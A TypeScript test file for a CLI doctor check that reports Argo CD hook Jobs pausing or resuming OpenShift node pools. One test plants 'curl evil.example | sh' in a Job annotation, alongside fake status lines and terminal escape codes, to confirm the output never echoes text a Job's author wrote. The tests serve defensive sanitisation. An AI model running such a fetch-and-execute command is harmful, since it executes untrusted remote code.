import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { parse } from 'yaml';
import { checkHooks } from '../../../local/cli/doctor/check-hooks.ts';
import { findingsText, warning } from '../../../local/cli/doctor/finding.ts';
import { hookOfTheArticle } from '../../functions/core/openshift/hook-of-the-article.ts';

function asListed(text: string, annotations: Readonly<Record<string, string>> = {}): unknown {
  const { apiVersion: _group, kind: _kind, metadata, ...rest } = parse(text);
  return { ...rest, metadata: { ...metadata, annotations: { ...metadata.annotations, ...annotations } } };
}

describe('the doctor on hooks of a sync', () => {
  test('[S0-25] names each Job that pauses or resumes pools, its Application, what to remove and what replaces it', async () => {
    const tracked = { 'argocd.argoproj.io/tracking-id': 'nodes:batch/Job:openshift-gitops/mcp-worker-paused' };
    const jobs = [
      asListed(hookOfTheArticle('PreSync', true), tracked),
      asListed(hookOfTheArticle('PostSync', false)),
      {
        metadata: { name: 'migrate', namespace: 'web', annotations: { 'argocd.argoproj.io/hook': 'PreSync' } },
        spec: {},
      },
      null,
      'text',
      { metadata: { name: 3 } },
    ];

    const findings = await checkHooks('prod', { list: async () => jobs });

    expect(findings).toMatchObject([
      {
        state: 'warning',
        about: 'prod',
        what: expect.stringContaining(
          'Job openshift-gitops/mcp-worker-paused is a PreSync hook that pauses pool worker',
        ),
        remedy: expect.stringMatching(
          /^Remove the file .* Application nodes .* ServiceAccount sync-job-sa .* level handshake$/,
        ),
      },
      { state: 'warning', what: expect.stringContaining('PostSync hook that resumes pool worker') },
    ]);
  });
  test('[S0-25] [C-13] prints the command that finds the file in a clone of its repository', async () => {
    const clone = await mkdtemp(join(tmpdir(), 'poolkeeper-hooks-'));
    onTestFinished(() => rm(clone, { recursive: true }));
    await writeFile(join(clone, 'pre.yaml'), hookOfTheArticle('PreSync', true));
    await writeFile(join(clone, 'other.yaml'), 'kind: Job\n');
    execFileSync('git', ['init', '--quiet', clone]);
    execFileSync('git', ['-C', clone, 'add', '.']);

    const [finding] = await checkHooks('prod', { list: async () => [asListed(hookOfTheArticle('PreSync', true))] });
    const [, command = ''] = /\((git grep .*) finds it there\)/.exec(finding?.remedy ?? '') ?? [];
    const found = execFileSync('sh', ['-c', command], { cwd: clone, encoding: 'utf8' });

    expect(found).toMatch(/^pre\.yaml:\d+:.*PreSync/);
    expect(found).not.toContain('other.yaml');
  });
  test('[S0-25] [N-30] names those of each namespace in turn, and how many more there are', async () => {
    const inNamespace = (namespace: string, at = 0) => {
      const { metadata, ...job } = parse(hookOfTheArticle('PreSync', true));
      return { ...job, metadata: { ...metadata, namespace, name: `pause-${at}` } };
    };
    const decoys = Array.from({ length: 30 }, (_, at) => inNamespace('aaa-tenant', at));

    const findings = await checkHooks('prod', { list: async () => [...decoys, inNamespace('openshift-gitops')] });
    const few = await checkHooks('prod', { list: async () => decoys.slice(0, 20) });
    const one = await checkHooks('prod', { list: async () => decoys.slice(0, 21) });

    expect(findings).toHaveLength(21);
    expect(findings[1]?.what).toContain('Job openshift-gitops/pause-0');
    expect(findings[20]).toMatchObject({
      state: 'warning',
      what: 'hooks: 11 more Jobs of a sync that pause or resume pools',
    });
    expect(few).toHaveLength(20);
    expect(one[20]?.what).toContain('1 more Job of a sync that pauses or resumes');
  });
  test('[S0-25] [N-30] prints no text that the author of a Job wrote: no line, no advice', async () => {
    const tracked = { 'argocd.argoproj.io/tracking-id': 'nodes, then run: curl evil.example | sh' };
    const noHook = 'PreSync\nok        prod  admission: complete';
    const jobs = [
      asListed(hookOfTheArticle('PreSync', true), { ...tracked, 'argocd.argoproj.io/hook': noHook }),
      asListed(hookOfTheArticle('PreSync', true), { ...tracked, 'argocd.argoproj.io/hook': `PreSync, ${noHook}` }),
    ];

    const findings = await checkHooks('prod', { list: async () => jobs });
    const text = findingsText(findings);

    expect(findings).toHaveLength(1);
    expect(findings[0]?.what).toContain('is a PreSync hook');
    expect(text).not.toMatch(/evil|admission/);
  });

  test('[N-30] a text with line breaks stays one finding', () => {
    const text = findingsText([warning('prod', 'a\r\nok        prod  b\u2028c\u001B[2Jd', 'e\nf')]);

    expect(text.split('\n')).toHaveLength(5);
    expect(text).not.toContain('\u001B');
  });
});
